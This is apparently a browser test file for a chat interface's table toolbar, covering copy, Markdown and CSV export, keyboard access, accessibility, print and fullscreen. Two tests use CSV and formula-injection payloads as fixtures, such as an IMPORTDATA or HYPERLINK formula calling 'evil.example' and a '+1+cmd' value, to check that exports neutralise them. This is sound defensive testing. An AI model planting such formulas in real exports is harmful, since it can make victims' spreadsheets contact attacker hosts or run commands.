import { cdp, userEvent } from 'vitest/browser'
import { afterEach, expect, onTestFinished, test } from 'vitest'
import type { ChatOptions } from '../../../sdk/entries/index.ts'
import { axeFindings } from '../axe-findings.ts'
import { eventually, renderChat, type RenderedChat } from '../render-chat.ts'
import { pasted } from './pasted.ts'
import { readValues } from './read-values.ts'
import { savedFiles } from './saved-files.ts'

// What comes next in its place is not pointed at.
afterEach(() => userEvent.hover(document.documentElement, { position: { x: 1, y: 1 } }))

const table = (...rows: string[]): string => ['| Name | Price |', '|:--|--:|', ...rows].join('\n')

async function showTable(text: string, options: ChatOptions = {}, attributes: Record<string, string> = {}) {
  const chat = await renderChat({ demo: true, history: [{ role: 'ai', text }], ...options }, attributes)
  await eventually(() => chat.root.querySelector('.table-frame [role="toolbar"]')).toBeTruthy()
  return chat
}

const button = ({ root }: RenderedChat, name: string): HTMLButtonElement => {
  const found = root.querySelector<HTMLButtonElement>(`.table-frame button[aria-label="${name}"]`)
  if (!found) throw new Error(`There is no button "${name}"`)
  return found
}

async function press(chat: RenderedChat, name: string): Promise<void> {
  await userEvent.hover(chat.root.querySelector('table') as HTMLElement)
  await userEvent.click(button(chat, name))
}

async function copied(text: string, options?: ChatOptions) {
  const chat = await showTable(text, options)
  await press(chat, 'Copy table')
  await eventually(() => chat.root.querySelector('.table-frame .told')?.textContent).toBe('Copied')
  return pasted()
}

test('a table is copied into a spreadsheet, cell by cell', async () => {
  const { text } = await copied(table('| Tea | 3 |', '| "Best" coffee | 4.50 |', '| a \\| b | -2 |'))
  expect(readValues(text, '\t')).toEqual([
    ['Name', 'Price'],
    ['Tea', '3'],
    ['"Best" coffee', '4.50'],
    ['a | b', '-2'],
  ])
})

test('a table is copied into a document, with borders and as it is aligned', async () => {
  const { html } = await copied(table('| **Tea** | [3](https://example.org/) |'))
  const page = new DOMParser().parseFromString(html, 'text/html')
  expect(page.querySelector('table')?.getAttribute('border')).toBe('1')
  const [tea, price] = page.querySelectorAll<HTMLElement>('td')
  expect([tea?.style.borderStyle, tea?.style.borderWidth, price?.style.textAlign]).toEqual(['solid', '1px', 'right'])
  expect([tea?.querySelector('strong')?.textContent, price?.querySelector('a')?.href]).toEqual(['Tea', 'https://example.org/'])
  expect([...page.querySelectorAll('th')].map((head) => head.textContent)).toEqual(['Name', 'Price'])
})

test('a formula is copied as its LaTeX, and the mark of a source is not', async () => {
  const chat = await renderChat({
    demo: true,
    history: [
      {
        role: 'ai',
        parts: [
          { type: 'text', text: table('| Area [1] | \\(x^2\\) |') },
          { type: 'source', id: 'a', url: 'https://example.org/', title: 'A page' },
        ],
      },
    ],
  })
  await eventually(() => chat.root.querySelector('.table-frame [role="toolbar"]')).toBeTruthy()
  await eventually(() => chat.root.querySelector('td math')).toBeTruthy()
  expect(chat.root.querySelector('td .citation')).toBeTruthy()
  await press(chat, 'Copy table')
  await eventually(() => chat.root.querySelector('.table-frame .told')).toBeTruthy()
  const { text, html } = await pasted()
  expect(readValues(text, '\t')[1]).toEqual(['Area', '\\(x^2\\)'])
  expect(new DOMParser().parseFromString(html, 'text/html').querySelector('td:last-child')?.textContent).toBe('\\(x^2\\)')
})

test('what a spreadsheet would compute or ask of the network is copied as text', async () => {
  const { text } = await copied(table('| =IMPORTDATA("https://evil.example") | +1+cmd |'))
  expect(readValues(text, '\t')[1]).toEqual(['\'=IMPORTDATA("https://evil.example")', "'+1+cmd"])
})

test('a table is copied as Markdown, as it was written', async () => {
  const chat = await showTable(table('| **Tea** | `a \\| b` |'))
  await press(chat, 'Copy as Markdown')
  await eventually(() => chat.root.querySelector('.table-frame .told')).toBeTruthy()
  const { text } = await pasted()
  expect(text.trim()).toBe('| Name | Price |\n| :-- | --: |\n| **Tea** | `a \\| b` |')
})

test('a table is saved as a file that a spreadsheet reads, without formulas, and numbers stay numbers', async () => {
  const saved = savedFiles()
  const cells = [
    '=HYPERLINK("https://evil.example";"x")',
    '@SUM(A1)',
    '+49 30 1',
    '-5',
    '-5+3',
    '+3,2 %',
    '-€4',
    '- no',
    'a;=1+1',
    'ü, "q"',
  ]
  const chat = await showTable(table(...cells.map((cell) => `| ${cell} | 1 |`)))
  await press(chat, 'Download as CSV')
  expect(saved.map(({ name }) => name)).toEqual(['Table.csv'])
  const text = (await saved[0]?.text) ?? ''
  expect(text.startsWith('\ufeff')).toBe(true)
  expect(readValues(text, ',').map(([first]) => first)).toEqual([
    'Name',
    '\'=HYPERLINK("https://evil.example";"x")',
    "'@SUM(A1)",
    '+49 30 1',
    '-5',
    "'-5+3",
    '+3,2 %',
    '-€4',
    "'- no",
    'a;=1+1',
    'ü, "q"',
  ])
  // Where a semicolon ends a cell, nothing of it becomes one of its own.
  expect(text).toContain('"a;=1+1"')
})

test('a keyboard reaches what can be done with a table, with a single stop', async () => {
  const chat = await showTable(table('| Tea | 3 |'))
  const bar = chat.root.querySelector<HTMLElement>('.table-frame .block-tools')
  await userEvent.hover(chat.part('input'))
  expect(bar && getComputedStyle(bar).opacity).toBe('0')
  chat.root.querySelector<HTMLElement>('.table-box')?.focus()
  expect(bar && getComputedStyle(bar).opacity).toBe('1')
  await userEvent.keyboard('{Tab}')
  const focused = (): string | null | undefined => chat.root.activeElement?.getAttribute('aria-label')
  expect(focused()).toBe('Copy table')
  await userEvent.keyboard('{ArrowRight}')
  expect(focused()).toBe('Copy as Markdown')
  await userEvent.keyboard('{ArrowLeft}{ArrowLeft}')
  expect(chat.root.activeElement).toBe(bar?.lastElementChild)
  await userEvent.keyboard('{Home}{Tab}')
  expect(bar?.contains(chat.root.activeElement)).toBe(false)
})

test('axe finds nothing, and from right to left the toolbar stands at the left', async () => {
  const chat = await showTable(
    '| الاسم | السعر |\n|---|---|\n| شاي | 3 |',
    {},
    { dir: 'rtl', style: 'width: 390px; height: 600px' },
  )
  await userEvent.hover(chat.root.querySelector('table') as HTMLElement)
  expect(await axeFindings(chat.element)).toEqual([])
  const frame = chat.root.querySelector('.table-frame')?.getBoundingClientRect()
  const bar = chat.root.querySelector('.table-frame .block-tools')?.getBoundingClientRect()
  expect(bar?.left).toBe(frame?.left)
  expect(bar && frame && bar.right <= frame.right).toBe(true)
})

test('in forced colours the toolbar of a table has an edge, and its pictures the colour of words', async () => {
  onTestFinished(() => void cdp().send('Emulation.setEmulatedMedia', { features: [] }))
  await cdp().send('Emulation.setEmulatedMedia', { features: [{ name: 'forced-colors', value: 'active' }] })
  const chat = await showTable(table('| Tea | 3 |'))
  await userEvent.hover(chat.root.querySelector('table') as HTMLElement)
  const bar = getComputedStyle(chat.root.querySelector('.table-frame .block-tools') as Element)
  expect([bar.borderTopWidth, bar.borderTopColor === bar.backgroundColor]).toEqual(['1px', false])
  const picture = getComputedStyle(button(chat, 'Copy table').querySelector('svg') as Element)
  expect([picture.color, picture.stroke === bar.backgroundColor]).toEqual([bar.color, false])
  expect(bar.color).not.toBe(bar.backgroundColor)
})

test('paper shows no toolbar', async () => {
  const chat = await showTable(`${table('| Tea | 3 |')}\n\n\`\`\`js\na\n\`\`\``)
  onTestFinished(() => void cdp().send('Emulation.setEmulatedMedia', { media: '' }))
  await cdp().send('Emulation.setEmulatedMedia', { media: 'print' })
  const bars = [...chat.root.querySelectorAll('.block-tools')].map((bar) => getComputedStyle(bar).display)
  expect(bars).toEqual(['none', 'none'])
})

test('a table that ends moves nothing and is not drawn again', async () => {
  const chat = await renderChat({
    connect: {
      handler: async (_body, signals) => {
        for (const text of [`${table('| Tea | 3 |')}\n`, '| Coffee | 4 |\n', '\nAnd so on.']) {
          await signals.onResponse({ text })
          await new Promise(requestAnimationFrame)
          await new Promise(requestAnimationFrame)
        }
        signals.onClose()
      },
      stream: true,
    },
  })
  await chat.send('A table, please')
  await eventually(() => chat.root.querySelector('.table-box table')).toBeTruthy()
  const first = chat.root.querySelector('.table-box table')
  await eventually(() => chat.root.querySelector('.table-frame [role="toolbar"]')).toBeTruthy()
  expect(chat.root.querySelector('.table-box table')).toBe(first)
  const frame = chat.root.querySelector('.table-frame') as HTMLElement
  expect(frame.getBoundingClientRect().height).toBe(chat.root.querySelector('.table-box')?.getBoundingClientRect().height)
})

test('a table is shown on the whole screen, and back', async () => {
  const chat = await showTable(table('| Tea | 3 |'))
  if (!document.fullscreenEnabled) return expect(chat.root.querySelector('[aria-label="Full screen"]')).toBeNull()
  await press(chat, 'Full screen')
  const frame = chat.root.querySelector('.table-frame')
  await eventually(() => frame?.matches(':fullscreen')).toBe(true)
  await eventually(() => button(chat, 'Full screen').ariaPressed).toBe('true')
  button(chat, 'Full screen').click()
  await eventually(() => button(chat, 'Full screen').ariaPressed).toBe('false')
})
